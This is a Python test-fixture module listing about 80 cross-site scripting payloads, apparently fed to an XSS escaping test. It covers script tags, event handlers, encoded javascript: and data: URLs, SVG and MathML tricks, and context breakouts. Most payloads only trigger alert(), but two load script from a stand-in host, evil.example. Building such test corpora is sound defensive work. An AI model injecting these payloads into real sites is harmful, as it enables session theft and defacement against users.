"""A corpus of cross-site scripting payloads, grouped by kind.

Each tries to run `alert(…)` (or similar) in a different way: plain script tags,
event handlers, `javascript:`/`data:` URLs in many encodings, SVG and MathML
tricks, attribute and tag breakouts, and breakouts from JSON-LD and other
inline-script contexts. Used by test_xss.py in every text field of the content.
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script>alert`4`</script>",
    "<<script>alert(5);//<</script>",
    '<script type="text/javascript">alert(6)</script>',
    "<script\x20type=module>alert(7)</script>",
    "<script/xss src=//evil.example/x.js></script>",
    "%3Cscript%3Ealert(8)%3C/script%3E",
    "&lt;script&gt;alert(9)&lt;/script&gt;",
    "<scrİpt>alert(10)</scrİpt>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(11)>",
    '<img src="x" onerror="alert(12)">',
    "<IMG SRC=/ onerror=alert(13)>",
    "<body onload=alert(14)>",
    "<div onmouseover=alert(15)>hover</div>",
    "<input autofocus onfocus=alert(16)>",
    "<details open ontoggle=alert(17)>",
    "<video><source onerror=alert(18)></video>",
    "<audio src=x onerror=alert(19)>",
    "<marquee onstart=alert(20)>x</marquee>",
    "<img src=x:alert(alt) onerror=eval(src) alt=21>",
    "<p style=animation-name:x onanimationstart=alert(22)>",
    "<img/src=x\x0conerror=alert(23)>",
    "<a href=# onclick=alert(24)>click</a>",
]

URLS = [
    '<a href="javascript:alert(25)">link</a>',
    "<a href=JaVaScRiPt:alert(26)>link</a>",
    '<a href="  javascript:alert(27)">link</a>',
    '<a href="java\tscript:alert(28)">link</a>',
    '<a href="java&#x09;script:alert(29)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(30)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(31)">x</a>',
    '<a href="javascript&colon;alert(32)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(33)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzNCk8L3NjcmlwdD4=">x</a>',
    '<a href="data:text/html,<script>alert(35)</script>">x</a>',
    '<iframe src="javascript:alert(36)"></iframe>',
    '<iframe srcdoc="<script>alert(37)</script>"></iframe>',
    '<object data="javascript:alert(38)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzkpPg==">',
    '<form action="javascript:alert(40)"><button>go</button></form>',
    '<button formaction="javascript:alert(41)">go</button>',
    '<img src="vbscript:msgbox(42)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(43)">',
    '<base href="javascript:alert(44)//">',
    "javascript:alert(45)",
    "data:text/html,<script>alert(46)</script>",
]

SVG_MATHML = [
    "<svg onload=alert(47)>",
    "<svg><script>alert(48)</script></svg>",
    "<svg><a xlink:href=javascript:alert(49)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(50) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(51) /></svg>",
    "<svg><use href=data:image/svg+xml,&lt;svg id='x' onload='alert(52)'&gt;#x /></svg>",
    '<svg><foreignObject><iframe src="javascript:alert(53)"></iframe></foreignObject></svg>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(54)>x</maction></math>",
    '<math href="javascript:alert(55)">CLICK</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(56)>",
    "<svg><style><img src=x onerror=alert(57)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(58)>">',
]

BREAKOUTS = [
    '"><script>alert(59)</script>',
    "'><img src=x onerror=alert(60)>",
    '" onmouseover="alert(61)" x="',
    "' onfocus='alert(62)' autofocus x='",
    '" autofocus onfocus=alert(63) "',
    "</title><script>alert(64)</script>",
    "</textarea><script>alert(65)</script>",
    "</style><script>alert(66)</script>",
    "--><script>alert(67)</script><!--",
    '<!--<img src="--><img src=x onerror=alert(68)//">',
    "<![CDATA[<script>alert(69)</script>]]>",
    "]]><script>alert(70)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(71)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(72)>">',
]

JSON_BREAKOUTS = [
    "</script><script>alert(73)</script>",
    '"}</script><script>alert(74)</script>',
    '","@type":"Person","x":"</script><img src=x onerror=alert(75)>',
    "\\u003c/script\\u003e<script>alert(76)</script>",
    "\u2028\u2029</ScRiPt ><script>alert(77)</script>",
    '"+alert(78)+"',
    "';alert(79);//",
    "${alert(80)}",
    "{{constructor.constructor('alert(81)')()}}",
    "<!--<script>alert(82)</script>",
]

KINDS = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "javascript: and data: URLs": URLS,
    "SVG and MathML": SVG_MATHML,
    "attribute and tag breakouts": BREAKOUTS,
    "JSON-LD and script-context breakouts": JSON_BREAKOUTS,
}

PAYLOADS = [payload for payloads in KINDS.values() for payload in payloads]

assert len(PAYLOADS) >= 50
assert len(set(PAYLOADS)) == len(PAYLOADS)
